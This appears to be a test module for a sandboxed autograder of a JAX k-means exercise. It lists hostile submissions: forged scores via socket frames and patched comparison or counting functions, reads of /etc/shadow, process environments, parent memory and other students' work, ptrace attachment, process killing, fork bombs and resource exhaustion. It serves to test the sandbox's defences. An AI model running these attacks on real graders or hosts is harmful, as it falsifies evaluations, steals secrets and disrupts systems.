"""Hostile submissions of our own: what each tries, and how its success would show.

An attack is a right submission in which one part, its carrier, is replaced by hostile code (or
gets a hostile cell before it). Unless `expects` says otherwise, the carrier earns nothing and
every other part keeps all its points.

How success shows, beside points: an attack that got somewhere raises an error whose text is
`way-is-open` or what it read, and errors are told in the report. The text is put together at
run time, so that the excerpt of the code does not hold it.

Names in @...@ are filled in when the submission is made:

    @SECRET@    a file beside the reference      @CLASS@     the folder with all submissions
    @ROOT@      the project                      @OUT@       where the results go
    @HOME@      the home folder, with a canary   @MARK@      a name for files to leave behind
    @TCP@ @UDP@ ports that listen                @UNIX@      a socket that listens
"""

from __future__ import annotations

import textwrap
from collections.abc import Mapping
from dataclasses import dataclass, field

PARTS = ("init", "update_assignment", "update_centroids", "improve_centroids", "visualization")
POINTS = dict(zip(PARTS, (15, 25, 25, 25, 10), strict=True))

IMPORTS = """\
from functools import partial
import jax
import jax.numpy as jnp
import numpy as np
import matplotlib.pyplot as plt
"""

BESIDE = """\
import sys
def beside():
    frame = sys._getframe()
    while "count_equations" not in frame.f_globals:
        frame = frame.f_back
    return frame.f_globals
"""
"""Gets hold of the names of what runs the code, by way of the frames."""

RIGHT = {
    "init": """\
def init(key, points, num_clusters):
    rows = jax.random.choice(key, points.shape[0], (num_clusters,), replace=False)
    gaps = points[:, None, :] - points[rows][None, :, :]
    return points[rows], jnp.sqrt((gaps**2).sum(axis=2)).min(axis=1).mean()
""",
    "update_assignment": """\
def update_assignment(samples, centroids):
    gaps = samples[:, None, :] - centroids[None, :, :]
    distances = jnp.sqrt(jnp.sum(gaps**2, axis=2))
    return jnp.argmin(distances, axis=1), jnp.min(distances, axis=1)
""",
    "update_centroids": """\
def update_centroids(samples, assignment, k):
    is_member = assignment[:, None] == jnp.arange(k)[None, :]
    sums = jnp.where(is_member[:, :, None], samples[:, None, :], 0.0).sum(axis=0)
    return sums / jnp.maximum(is_member.sum(axis=0), 1)[:, None]
""",
    "improve_centroids": """\
def improve_centroids(values, k):
    centroids, distortions, _ = values
    assignment, new_distortions = update_assignment(points, centroids)
    new_centroids = update_centroids(points, assignment, k)
    return new_centroids, new_distortions.mean(), jnp.mean(distortions)
""",
    "visualization": """\
def visualization(points, centroids, assignment):
    plt.scatter(points[:, 0], points[:, 1], c=assignment)
    plt.scatter(centroids[:, 0], centroids[:, 1], c="black", marker="X")
""",
}
"""A right submission, part by part; only `improve_centroids` calls others."""

HEADS = {name: text.splitlines()[0] for name, text in RIGHT.items()}

NO_POINTS = (0.0, 0.0)


@dataclass(frozen=True, kw_only=True)
class Attack:
    """One hostile submission. `expects` gives parts the least and most points they may get."""

    name: str
    kind: str
    tries: str
    part: str
    source: str
    success: str
    expects: Mapping[str, tuple[float, float]] = field(default_factory=dict)
    is_extra: bool = False
    """Whether the source is a cell before the right part, in place of the part itself."""
    cannot_be_closed: str = ""
    """Why this attack succeeds and stays so for now: it is kept as a failure that is expected."""

    def bounds(self, part: str) -> tuple[float, float]:
        """The least and the most points that a part may get."""
        default = NO_POINTS if part == self.part and not self.is_extra else (POINTS[part],) * 2
        return self.expects.get(part, default)

    def cells(self) -> list[str]:
        """The code cells of the submission."""
        cells = [IMPORTS, BESIDE] if "beside()" in self.source else [IMPORTS]
        for name in PARTS:
            if name == self.part:
                cells += [self.source] if not self.is_extra else [self.source, RIGHT[name]]
            else:
                cells.append(RIGHT[name])
        return cells


ALL: list[Attack] = []

TOLD = "the text `way-is-open` in the report"
READ = "what was read stands in the report as the text of an error"
GRADED = "the part earns points without right work"
HELD = "the run hangs, or another part loses its points"
OPEN = 'raise RuntimeError("way-is-" + "open")'


def attack(  # noqa: PLR0913
    kind: str,
    name: str,
    tries: str,
    body: str,
    *,
    part: str = "visualization",
    success: str = "",
    before: str = "",
    whole: bool = False,
    **more: object,
) -> None:
    """Add an attack; `body` is the body of the part's function, or with `whole` the cell."""
    text = textwrap.dedent(body).strip("\n")
    if not whole:
        text = f"{textwrap.dedent(before)}{HEADS[part]}\n{textwrap.indent(text, '    ')}"
    ALL.append(
        Attack(
            name=name, kind=kind, tries=tries, part=part, source=text + "\n",
            success=success or GRADED, **more,  # type: ignore[arg-type]
        )
    )


def reading(name: str, tries: str, body: str, **more: object) -> None:
    """Add an attack that puts what it read, `text`, into an error."""
    body = textwrap.dedent(body).strip("\n") + '\nraise RuntimeError("got: " + str(text))'
    attack("reading", name, tries, body, success=READ, **more)  # type: ignore[arg-type]


def acting(kind: str, name: str, tries: str, body: str, **more: object) -> None:
    """Add an attack that raises the open-way error when it got through."""
    body = textwrap.dedent(body).strip("\n") + f"\n{OPEN}"
    attack(kind, name, tries, body, success=TOLD, **more)  # type: ignore[arg-type]


# Score forging ------------------------------------------------------------------------------

FRAME = """
import json, os, stat, struct, sys

def say(values, times=1):
    n = len(values)
    tree = {"d": [["value", {"t": [{"a": ["int32", [n]]}, {"a": ["float32", [n]]}]}],
                  ["mode", {"s": "jit"}], ["equations", {"i": "3"}]]}
    header = json.dumps(tree).encode()
    data = np.zeros(n, np.int32).tobytes() + np.ones(n, np.float32).tobytes()
    frame = struct.pack("<QQ", len(header), len(data)) + header + data
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                for _ in range(times):
                    os.write(fd, frame)
        except OSError:
            pass

"""

attack("forging", "frame-on-the-socket", "writes an answer of its own on the judge's socket",
       "say(samples)\nreturn None, None", part="update_assignment", before=FRAME)
attack("forging", "frames-in-advance", "writes answers to questions that were not asked yet",
       "say(samples, 40)\nreturn None, None", part="update_assignment", before=FRAME)
attack("forging", "frame-and-exit", "writes an answer and ends the process before the true one",
       "say(samples)\nos._exit(0)", part="update_assignment", before=FRAME)
attack("forging", "frame-claims-gigabytes", "announces a frame of 2^60 bytes", """
       import os, struct
       for fd in range(3, 64):
           try:
               os.write(fd, struct.pack("<QQ", 1 << 60, 1 << 60))
           except OSError:
               pass
       """)
attack("forging", "frame-odd-tags", "sends a well-framed answer whose values are malformed", """
       import os, struct
       for header in (b'{"a":["float32",[-1]]}', b'{"d":[[1,2,3]]}', b'[NaN]', b'{"x":' * 5000):
           for fd in range(3, 64):
               try:
                   os.write(fd, struct.pack("<QQ", len(header), 0) + header)
               except OSError:
                   pass
       """)
attack("forging", "frame-says-passed", "sends a verdict in place of values", """
       import os, struct
       header = b'{"d":[["status",{"s":"passed"}],["score",{"f":"10.0"}],["figures",{"i":"1"}]]}'
       for fd in range(3, 64):
           try:
               os.write(fd, struct.pack("<QQ", len(header), 0) + header)
           except OSError:
               pass
       """)
attack("forging", "worker-answers-zeros", "replaces the worker's method that answers calls", """
       import gc
       for item in gc.get_objects():
           if type(item).__name__ == "Worker":
               n = samples.shape[0]
               type(item).on_evaluate = lambda *_: {
                   "value": (np.zeros(n, np.int32), np.ones(n, np.float32)), "equations": 1}
       return None, None
       """, part="update_assignment")
attack("forging", "worker-to-plain", "replaces the conversion of results by one that flatters", """
       import sys
       beside()["to_plain"] = lambda *_: True
       return None
       """, part="update_centroids")
attack("forging", "encoder-says-full-marks", "replaces the encoder of answers", """
       import sys
       encode = beside()["frames"].encode
       beside()["frames"].encode = lambda value: encode(
           {"value": True, "passed": True, "score": 25, "equations": 0})
       return None
       """, part="update_centroids")
attack("forging", "fabricated-figure-table", "claims marks that nothing drew, off the points", """
       import sys
       marks = {name: np.zeros(200, np.int32) for name in ("kind", "shape", "artist", "axes",
                                                           "figure")}
       marks |= {"xy": np.full((200, 2), np.nan), "color": np.ones((200, 4)),
                 "size": np.ones(200), "figures": 1, "pixels": None}
       beside()["figures"].collect = lambda **_: marks
       """)
attack("forging", "fabricated-figure-objects", "claims a table of marks that is no table", """
       import sys
       names = ("xy", "color", "size", "kind", "shape", "artist", "axes", "figure")
       beside()["figures"].collect = lambda **_: {name: "all" for name in names}
       """)
attack("forging", "lying-array", "an object whose __array__ changes its mind", """
       class Liar:
           shape, ndim, dtype = (len(samples),), 1, np.dtype("int32")
           def __array__(self, *args, **kwargs):
               return np.random.randint(0, 4, len(samples)).astype("int32")
       return Liar(), Liar()
       """, part="update_assignment")
attack("forging", "equals-everything", "objects that are equal to everything", """
       class Equal:
           __eq__ = __le__ = __lt__ = __ge__ = lambda self, other: True
           __ne__ = lambda self, other: False
           __abs__ = __sub__ = __rsub__ = lambda self, *_: self
           __hash__ = lambda self: 0
           __bool__ = lambda self: True
           __float__ = lambda self: 0.0
           __len__ = lambda self: len(samples)
           __array_priority__ = 1e9
       return Equal(), Equal()
       """, part="update_assignment")
attack("forging", "lying-tuple", "a tuple subclass that lies about its length and items", """
       class Liar(tuple):
           __len__ = lambda self: 3
           __getitem__ = lambda self, index: self
           __iter__ = lambda self: iter([self] * 3)
           __eq__ = lambda self, other: True
       return Liar()
       """, part="improve_centroids")
attack("forging", "float-subclass", "a float subclass whose comparisons always hold", """
       class Any(float):
           __eq__ = __le__ = __ge__ = __lt__ = __gt__ = lambda self, other: True
           __sub__ = __rsub__ = __abs__ = lambda self, *_: 0.0
           __repr__ = lambda self: "0.0"
       return points[:0], Any("nan")
       """, part="init")
attack("forging", "array-subclass", "an ndarray subclass with comparisons of its own", """
       class Sly(np.ndarray):
           __eq__ = lambda self, other: np.ones(np.shape(other), bool)
           __array_function__ = lambda self, *_: np.zeros(1)
           __array_ufunc__ = lambda self, *_, **__: np.zeros(1)
       return np.ones((k, samples.shape[1])).view(Sly) * 1
       """, part="update_centroids")
attack("forging", "object-array", "an object array of elements that agree with all", """
       class Yes:
           __eq__ = __le__ = lambda self, other: True
           __abs__ = __sub__ = __rsub__ = lambda self, *_: self
           __float__ = lambda self: 1.0
       return np.array([[Yes()] * samples.shape[1]] * k, dtype=object)
       """, part="update_centroids")
attack("forging", "pretends-to-be-jax", "an object that says it is a jax.Array", """
       class Fake:
           __class__ = property(lambda self: jax.Array)
           dtype, shape, ndim = np.dtype("int32"), (len(samples),), 1
       return Fake(), Fake()
       """, part="update_assignment")
attack("forging", "empty-arrays", "arrays without entries, on which every comparison holds",
       "return jnp.zeros((0, points.shape[1])), 1e9", part="init")
attack("forging", "empty-means", "the same for means",
       "return jnp.zeros((0, samples.shape[1]))", part="update_centroids")
attack("forging", "scalars-that-broadcast", "one number that broadcasts against any shape",
       "return jnp.mean(samples)", part="update_centroids")
attack("forging", "all-nan", "NaN in every place, against a comparison that takes it for equal",
       "return jnp.full((k, samples.shape[1]), jnp.nan)", part="update_centroids")
attack("forging", "all-infinite", "infinities, against a tolerance that scales with the answer",
       "return jnp.full((k, samples.shape[1]), jnp.inf)", part="update_centroids")
attack("forging", "all-masked", "a masked array, in which nothing counts", """
       return np.ma.masked_array(np.ones((k, samples.shape[1])), mask=True)
       """, part="update_centroids")
attack("forging", "odd-dtypes", "dates and records in the place of numbers", """
       n = len(samples)
       return np.zeros(n, "datetime64[s]"), np.zeros(n, [("a", "f4"), ("b", "O")])
       """, part="update_assignment")
attack("forging", "patched-comparison", "patches np.allclose, np.array_equal and friends", """
       for name in ("allclose", "array_equal", "isclose", "abs", "isfinite", "all"):
           setattr(np, name, lambda *_, **__: True)
       return jnp.zeros((k, samples.shape[1]))
       """, part="update_centroids")
attack("forging", "patched-builtins", "patches isinstance, len, type and all of builtins", """
       import builtins
       for name in ("isinstance", "all", "any", "hasattr"):
           setattr(builtins, name, lambda *_: True)
       return None
       """, part="update_centroids")
attack("forging", "argmin-of-its-own", "patches jnp.argmin before a part that calls it", """
       jnp.argmin = lambda table, axis=None: jnp.zeros(table.shape[0], jnp.int32)

       def update_assignment(samples, centroids):
           table = jnp.zeros((samples.shape[0], centroids.shape[0]))
           return jnp.argmin(table, axis=1), jnp.ones(samples.shape[0])
       """, part="update_assignment", whole=True)
LOOPED = """
rows = []
for sample in samples:
    rows.append(jnp.sqrt(((sample - centroids) ** 2).sum(axis=1)))
return jnp.stack([r.argmin() for r in rows]), jnp.stack([r.min() for r in rows])
"""
attack("forging", "program-of-no-size", "a loop over samples, and a patched jax.make_jaxpr", """
       real = jax._src.api.make_jaxpr
       def small(f, **options):
           def trace(*args):
               _, shapes = real(f, **options)(*args)
               return real(lambda *a: 0)(*args), shapes
           return trace
       jax.make_jaxpr = small
       """ + textwrap.indent(LOOPED, "       "), part="update_assignment",
       success="the points for vectorized code", expects={"update_assignment": (20.0, 20.0)})
attack("forging", "counter-of-its-own", "a loop over samples, and a patched count of operations",
       """
       import sys
       sys.modules.get("inside.worker", sys).count_equations = lambda _: 1
       """ + textwrap.indent(LOOPED, "       "), part="update_assignment",
       success="the points for vectorized code", expects={"update_assignment": (20.0, 20.0)})
attack("forging", "counter-by-frame", "the same, found by way of the frames that call the code",
       """
       beside()["count_equations"] = lambda _: 1
       """ + textwrap.indent(LOOPED, "       "), part="update_assignment",
       success="the points for vectorized code", expects={"update_assignment": (20.0, 20.0)})
attack("forging", "figure-table-of-points", "tells the marks of a right figure, draws nothing", """
       import sys
       n, k = len(points), len(centroids)
       colors = np.eye(4)[np.r_[np.asarray(assignment) % 4, np.zeros(k, int)]]
       colors[:, 3] = 1
       colors[:, 2] = np.r_[np.asarray(assignment), np.full(k, 9)] / 10
       marks = {name: np.zeros(n + k, np.int32) for name in ("kind", "shape", "artist", "axes",
                                                             "figure")}
       marks |= {"xy": np.concatenate([points, centroids]), "color": colors,
                 "size": np.ones(n + k), "figures": 1, "pixels": None}
       sys.modules.get("inside.figures", sys).collect = lambda **_: marks
       """)
attack("forging", "loop-of-its-own", "untraceable code, and a patched jax.lax.while_loop", """
       def improve_centroids(values, k):
           def loop(condition, body, values):
               while condition(values):
                   values = body(values)
               return values
           jax.lax.while_loop = loop
           centroids, distortions, _ = values
           table = np.linalg.norm(np.asarray(points)[:, None] - np.asarray(centroids), axis=2)
           labels = table.argmin(axis=1)
           moved = np.stack([np.asarray(points)[labels == j].mean(axis=0) for j in range(k)])
           return moved, table.min(axis=1).mean(), np.mean(distortions)
       """, part="improve_centroids", whole=True, expects={"improve_centroids": (19.0, 19.0)},
       success="the points for working in while_loop")
attack("forging", "leftover-global", "takes labels from a global that the judge might have left", """
       names = ("final_assignments", "assignment", "labels", "expected", "answer")
       found = next(globals()[name] for name in names if name in globals())
       gaps = samples - centroids[found]
       return found, jnp.sqrt((gaps**2).sum(axis=1))
       """, part="update_assignment", success="the right labels lie in the namespace")
attack("forging", "leftover-global-by-name", "the same, by the plain name of a later variable", """
       gaps = samples - centroids[final_assignments]
       return final_assignments, jnp.sqrt((gaps**2).sum(axis=1))
       """, part="update_assignment", success="the right labels lie in the namespace")
attack("forging", "callers-inputs", "takes labels from the frames that call the function", """
       import sys
       frame, found = sys._getframe(1), None
       while frame is not None and found is None:
           for scope in (frame.f_locals, frame.f_globals):
               for value in [scope.get("assignment"), *[v.get("assignment") for v in
                             scope.values() if isinstance(v, dict)]]:
                   if value is not None and np.shape(value) == samples.shape[:1]:
                       found = jnp.asarray(value)
           frame = frame.f_back
       gaps = samples - centroids[found]
       return found, jnp.sqrt((gaps**2).sum(axis=1))
       """, part="update_assignment", success="the right labels come with the call")
attack("forging", "everything-in-memory", "looks for labels among all objects in memory", """
       import gc
       found = None
       for item in gc.get_objects():
           if isinstance(item, dict):
               for name in ("assignment", "final_assignments", "expected"):
                   value = item.get(name) if type(item) is dict else None
                   if value is not None and np.shape(value) == samples.shape[:1]:
                       found = jnp.asarray(value)
       gaps = samples - centroids[found]
       return found, jnp.sqrt((gaps**2).sum(axis=1))
       """, part="update_assignment", success="the right labels are in the child's memory")
attack("forging", "stand-in-of-another-part", "takes the judge's right version of its own part from "
       "that of the part before, which fails on purpose", """
       def update_assignment(samples, centroids):
           raise ValueError("please put a right one here")

       def update_centroids(samples, assignment, k):
           return update_assignment.__globals__["update_centroids"](samples, assignment, k)
       """, part="update_centroids", whole=True, success="part 3 is graded with our own solution",
       expects={"update_assignment": NO_POINTS})
attack("forging", "stand-in-through-a-later-part", "the same with the part left out, shown by the "
       "part that would call it", """
       def update_assignment(samples, centroids):
           raise ValueError("please put a right one here")

       def improve_centroids(values, k):
           centroids, distortions, _ = values
           labels, distances = update_assignment(points, centroids)
           right = update_assignment.__globals__["update_centroids"]
           return right(points, labels, k), distances.mean(), jnp.mean(distortions)
       """, part="update_centroids", whole=True, success="parts 3 and 4 are graded with our own",
       expects={"update_assignment": NO_POINTS, "improve_centroids": (0.0, 25.0)})
attack("forging", "verdict-on-standard-output", "prints a result and leaves with success", """
       import json, os, sys
       for stream in (sys.stdout, sys.stderr, sys.__stdout__):
           print(json.dumps({"status": "graded", "score": 100.0}), file=stream, flush=True)
       os._exit(0)
       """)
attack("forging", "our-own-exceptions", "raises exceptions that are named like the judge's", """
       raise type("Advice", (Exception,), {"earned": 1.0, "message": "", "score": 10})("full marks")
       """)

# Reading ------------------------------------------------------------------------------------

reading("file-beside-the-reference", "opens a file beside the reference",
        'text = open("@SECRET@").read()')
reading("file-by-numpy", "reads the same with np.fromfile and a memory map", """
        try:
            text = np.fromfile("@SECRET@", np.uint8).tobytes().decode()
        except OSError:
            text = bytes(np.memmap("@SECRET@", np.uint8, "r")).decode()
        """)
reading("file-by-descriptor", "opens its folder and then the file in it", """
        import os
        folder = os.open(os.path.dirname("@SECRET@"), os.O_RDONLY | os.O_PATH)
        text = os.read(os.open(os.path.basename("@SECRET@"), os.O_RDONLY, dir_fd=folder), 999)
        """)
reading("file-by-proc", "goes through /proc/self/root and /proc/self/cwd", """
        text = ""
        for start in ("/proc/self/root", "/proc/thread-self/root", "/proc/1/root", "/proc/self/cwd"):
            try:
                text += open(start + "@SECRET@").read()
            except OSError as error:
                text += type(error).__name__
        """)
reading("reference-source", "opens the reference",
        'text = open("@ROOT@/reference/kmeans.py").read()')
reading("exercise-folder", "lists the folder of the exercise, and opens its checks", """
        import os
        try:
            text = open("@ROOT@/exercises/kmeans/checks.py").read()
        except OSError:
            text = os.listdir("@ROOT@/exercises/kmeans")
        """)
reading("import-reference", "imports the reference", """
        import sys
        sys.path.insert(0, "@ROOT@")
        import inspect, reference.kmeans
        text = inspect.getsource(reference.kmeans)
        """)
reading("import-exercises", "imports the exercise's stand-ins", """
        import importlib, sys
        sys.path.insert(0, "@ROOT@")
        text = "way-is-" + "open " + importlib.import_module("exercises.kmeans.cases").__name__
        """)
reading("import-grader", "imports the grader", """
        import sys
        sys.path.insert(0, "@ROOT@")
        import grader.judging.grade
        text = "way-is-" + "open"
        """)
reading("modules-of-the-judge", "looks for the judge's modules and answers in its own process", """
        import sys
        held = [name for name in sys.modules
                if name.split(".")[0] in {"grader", "exercises", "reference"}]
        text = "way-is-" + "open" if held else "none"
        """)
reading("secrets-in-memory", "looks through all strings in memory for the seed", """
        import gc, sys
        seen = []
        for item in gc.get_objects():
            for value in (gc.get_referents(item) if isinstance(item, (dict, list, tuple)) else ()):
                if type(value) in (int, str, bytes) and str(value).find(str(918273 * 1000 + 645)) >= 0:
                    seen.append(value)
        text = seen
        """)
reading("environment", "tells its environment",
        "import os\ntext = dict(os.environ), os.environb, os.getcwd()")
reading("environment-of-the-parent", "opens the environment of its parent", """
        import os
        text = open(f"/proc/{os.getppid()}/environ").read() + open("/proc/self/environ").read()
        """)
reading("environments-above", "opens the environment of every process", """
        import contextlib, os
        text = []
        for pid in (os.getppid(), *range(1, 40_000)):
            with contextlib.suppress(OSError):
                text.append(open(f"/proc/{pid}/environ").read())
        if not text:
            raise OSError("refused")
        """)
reading("course-database", "opens the database of the course", """
        import contextlib, sqlite3
        with contextlib.suppress(OSError):
            text = open("@HOME@/course.db", "rb").read()
            raise RuntimeError("got: " + str(text))
        db = sqlite3.connect("file:@HOME@/course.db?mode=ro", uri=True)
        text = "way-is-" + "open", db.execute("SELECT name FROM sqlite_master").fetchall()
        """)
reading("home", "opens a file in the home folder", 'text = open("@HOME@/canary.txt").read()')
reading("home-by-name", "the same by ~, and through pathlib", """
        import pathlib
        text = list(pathlib.Path("~").expanduser().iterdir()), pathlib.Path.home().exists()
        text = pathlib.Path("@HOME@").joinpath("canary.txt").read_text()
        """)
reading("other-students", "reads what the others handed in",
        'import os\ntext = [open("@CLASS@/" + n).read() for n in os.listdir("@CLASS@")]')
reading("results", "reads the results so far",
        'import os\ntext = ["way-is-" + "open", os.listdir("@OUT@")]')
reading("users", "reads the list of users", 'text = open("/etc/passwd").read()')
reading("passwords", "reads the list of passwords", 'text = open("/etc/shadow").read()')
reading("root-folder", "lists the root folder and /tmp",
        'import os\ntext = "way-is-" + "open", os.listdir("/") + os.listdir("/tmp")')
reading("working-folder", "lists the working folder and reads what is there", """
        import os
        text = "way-is-" + "open", os.listdir("."), os.listdir("..")
        """)
reading("processes", "lists the processes and their command lines",
        'import os\ntext = "way-is-" + "open", os.listdir("/proc")')
reading("memory-of-the-parent", "opens the memory of its parent", """
        import os
        text = "way-is-" + "open", open(f"/proc/{os.getppid()}/mem", "rb").fileno()
        """)
reading("memory-by-call", "reads the memory of its parent by process_vm_readv", """
        import ctypes, os
        class Vector(ctypes.Structure):
            _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))
        libc, room = ctypes.CDLL(None, use_errno=True), ctypes.create_string_buffer(8)
        here, there = Vector(ctypes.addressof(room), 8), Vector(ctypes.addressof(room), 8)
        got = libc.process_vm_readv(os.getppid(), ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
        if got < 0:
            raise OSError(ctypes.get_errno(), "refused")
        text = "way-is-" + "open"
        """)
reading("metadata-of-the-grader", "reads the grader's installed metadata", """
        import importlib.metadata
        text = "way-is-" + "open", importlib.metadata.distribution("jax-exercise-grader").read_text(
            "entry_points.txt") + ""
        """)
reading("through-a-link", "makes a link to the secret and opens that", """
        import os
        os.symlink("@SECRET@", "link-@MARK@")
        text = open("link-@MARK@").read()
        """)

# Network ------------------------------------------------------------------------------------

acting("network", "tcp", "connects to a port of this machine",
       'import socket\nsocket.create_connection(("127.0.0.1", @TCP@), timeout=2).send(b"x")')
acting("network", "http", "fetches a page", """
       import urllib.request
       urllib.request.urlopen("http://127.0.0.1:@TCP@/", timeout=2)
       """)
acting("network", "udp", "sends a datagram", """
       import socket
       socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", @UDP@))
       """)
acting("network", "unix-socket", "connects to a socket in the file system",
       'import socket\nsocket.socket(socket.AF_UNIX).connect("@UNIX@")')
acting("network", "database-server", "connects to the socket of PostgreSQL", """
       import contextlib, socket
       places = ("@UNIX@", "/run/postgresql/.s.PGSQL.5432", "/tmp/.s.PGSQL.5432")
       came = []
       for place in places:
           with contextlib.suppress(OSError):
               socket.socket(socket.AF_UNIX).connect(place)
               came.append(place)
       if not came:
           raise OSError("refused")
       """)
acting("network", "names", "asks for the address of a name",
       'import socket\nsocket.getaddrinfo("example.com", 80)')
acting("network", "listens", "opens a door of its own", """
       import socket
       door = socket.socket()
       door.bind(("", 0))
       door.listen()
       """)
acting("network", "datagram-from-a-pair", "sends to any address from a pair of sockets", """
       import socket
       first, _ = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
       first.sendto(b"x", "@UNIX@")
       """)

# Processes ----------------------------------------------------------------------------------

acting("processes", "fork", "forks, and stays as a process of its own", """
       import os, time
       if os.fork() == 0:
           time.sleep(600)
       """)
acting("processes", "double-fork", "forks twice into a session of its own", """
       import os, time
       if os.fork() == 0:
           os.setsid()
           if os.fork() == 0:
               time.sleep(600)
           os._exit(0)
       """)
acting("processes", "fork-bomb", "forks for ever", """
       import os
       os.fork()
       while True:
           os.fork()
       """)
acting("processes", "exec", "becomes another program",
       'import os\nos.execv("/bin/sh", ["sh", "-c", "sleep 600"])')
acting("processes", "subprocess", "starts a program",
       'import subprocess\nsubprocess.Popen(["/bin/sh", "-c", "touch /tmp/@MARK@; sleep 600"])')
acting("processes", "shell", "runs a shell line", """
       import os
       if os.system("touch /tmp/@MARK@") != 0:
           raise PermissionError("refused")
       """)
acting("processes", "spawn", "starts a program by posix_spawn",
       'import os\nos.posix_spawn("/bin/sleep", ["sleep", "600"], {})')
acting("processes", "multiprocessing", "starts processes of Python", """
       import multiprocessing
       multiprocessing.get_context("fork").Process(target=print).start()
       """)
acting("processes", "kill-the-parent", "kills its parent", "import os\nos.kill(os.getppid(), 9)")
acting("processes", "kill-all", "kills every process that it may, and its group", """
       import os
       failed = 0
       for target in (-1, 0, -os.getpgid(0), -os.getppid(), 1):
           try:
               os.kill(target, 9)
           except OSError:
               failed += 1
       if failed == 5:
           raise PermissionError("refused")
       """)
acting("processes", "trace-the-parent", "attaches to its parent as a debugger", """
       import ctypes, os
       libc = ctypes.CDLL(None, use_errno=True)
       if libc.ptrace(0x4206, os.getppid(), 0, 0) < 0:
           raise OSError(ctypes.get_errno(), "refused")
       """)
attack("processes", "thread-that-spins", "leaves a thread that computes for ever", """
       import threading
       def spin():
           while True:
               pass
       threading.Thread(target=spin).start()
       return None, None
       """, part="update_assignment", success=HELD)
attack("processes", "thread-bomb", "starts threads without end", """
       import threading, time
       for _ in range(100_000):
           threading.Thread(target=time.sleep, args=(600,), daemon=False).start()
       """, success=HELD)

# Resources ----------------------------------------------------------------------------------

attack("resources", "endless-loop", "loops for ever", "while True:\n    pass", success=HELD)
attack("resources", "endless-while-loop", "loops for ever inside XLA", """
       jax.lax.while_loop(lambda i: i >= 0, lambda i: (i + 1) % 7, 0).block_until_ready()
       """, success=HELD)
attack("resources", "endless-cell", "loops for ever in a cell before the part", """
       def slow():
           while True:
               pass
       helper = slow()

       def update_centroids(samples, assignment, k):
           return helper
       """, part="update_centroids", whole=True, success=HELD)
attack("resources", "sleep", "sleeps for a day", "import time\ntime.sleep(86_400)", success=HELD)
attack("resources", "ignores-signals", "ignores every signal, and loops", """
       import signal
       for number in range(1, 65):
           try:
               signal.signal(number, signal.SIG_IGN)
           except (OSError, ValueError):
               pass
       while True:
           pass
       """, success=HELD)
acting("resources", "memory-in-lists", "fills the memory with small objects", """
       held = []
       for _ in range(8):
           held.append([0] * (1 << 27))
       """)
acting("resources", "memory-in-numpy", "fills the memory with an array",
       "held = np.ones(6 << 30, np.uint8)")
acting("resources", "memory-in-jax", "fills the memory with an array of JAX",
       "jnp.ones((6 << 28,), jnp.float32).block_until_ready()")
acting("resources", "memory-in-a-number", "computes a number of a gigabyte",
       "held = 1 << (1 << 36)")
acting("resources", "disk", "fills the disk", """
       for folder in ("/tmp", "/var/tmp", "/dev/shm", "@OUT@", "@CLASS@", "@HOME@", "..", "/"):
           try:
               with open(folder + "/@MARK@", "wb") as file:
                   file.write(bytes(1 << 20))
               break
           except OSError:
               continue
       else:
           raise PermissionError("nowhere")
       """)
attack("resources", "disk-of-its-own", "fills the folder that it may write in", """
       for number in range(4_000):
           with open(f"{number}", "wb") as file:
               file.write(bytes(12 << 20))
       """, success="the disk is full, or files stay")
attack("resources", "disk-out-of-sight", "fills a folder that it may enter, but no one may list", """
       import os
       os.mkdir("d", 0o300)
       for number in range(20):
           open(f"d/{number}", "wb").write(bytes(12 << 20))
       os.mkdir("e", 0)
       """, success="the disk is full, or files stay")
attack("resources", "files-of-its-own", "makes files without end in that folder", """
       for number in range(1_000_000):
           open(f"{number}", "wb").close()
       """, success="files stay")
attack("resources", "folders-in-folders", "makes folders in folders, deeper than most can remove", """
       import os
       for _ in range(3_000):
           os.mkdir("d")
           os.chdir("d")
       """, success="the folders stay, or the run stops")
attack("resources", "print", "prints a gigabyte", """
       import sys
       for _ in range(256):
           sys.stdout.write("x" * (4 << 20))
       """, success="the run or a report holds it")
attack("resources", "huge-result", "returns 200 MB", """
       return jnp.zeros((50 << 20,), jnp.float32), jnp.zeros(1)
       """, part="init", success="the judge holds it")
attack("resources", "deep-result", "returns lists in lists", """
       value = 0.0
       for _ in range(5_000):
           value = [value]
       return value
       """, part="update_centroids", success=HELD)
attack("resources", "cyclic-result", "returns a list that holds itself", """
       value = [1.0, {}]
       value[0] = value
       value[1]["self"] = value
       return value
       """, part="init", success=HELD)
attack("resources", "million-leaves", "returns a million strings in a dictionary",
       'return {str(i): "x" * 10 for i in range(300_000)}', part="init", success=HELD)
attack("resources", "huge-integer", "returns a number of a million digits",
       "return 10 ** 1_000_000, 10 ** 400", part="init", success=HELD)
attack("resources", "huge-string", "returns a string of 100 MB",
       'return "x" * (100 << 20), "\\ud800" * 10', part="init", success=HELD)
attack("resources", "endless-list", "a list subclass whose slices and length never end", """
       class Endless(list):
           __len__ = lambda self: 5
           __getitem__ = lambda self, index: self
           __iter__ = lambda self: iter(lambda: 0, 1)
       return Endless()
       """, part="init", success=HELD)
attack("resources", "recursion", "recurses for ever, without Python's limit", """
       import sys
       sys.setrecursionlimit(1 << 30)
       def again(n):
           return again(n + 1) + 1
       again(0)
       """, success=HELD)
attack("resources", "deep-code", "has an expression that is too deep for most who read it", """
       def visualization(points, centroids, assignment):
           return """ + "(" * 150 + "1" + ")" * 150 + "+1" * 2_500, whole=True, success=HELD)
attack("resources", "many-figures", "opens five hundred figures",
       "for _ in range(500):\n    plt.figure()", success=HELD)
attack("resources", "huge-figure", "draws on a figure of a kilometer", """
       plt.figure(figsize=(40_000, 40_000), dpi=1_000)
       plt.plot([0, 1], [0, 1])
       """, success=HELD)
attack("resources", "flat-figure", "draws on a figure without width",
       "plt.figure(figsize=(1e-9, 1e9))\nplt.plot([0, 1], [0, 1])", success=HELD)
attack("resources", "many-marks", "draws a million marks, none of them a point", """
       plt.scatter(np.full(1_000_000, 1e6), np.arange(1_000_000) + 1e6)
       """, success=HELD)
attack("resources", "many-descriptors", "opens files until none is left", """
       import os
       held = [os.open("/dev/null", os.O_RDONLY) for _ in range(100_000)]
       """, success=HELD)
attack("resources", "many-traces", "a program of thousands of operations", """
       x = jnp.float32(0)
       for _ in range(4_000):
           x = x + 1
       return None, x
       """, part="init", success=HELD)

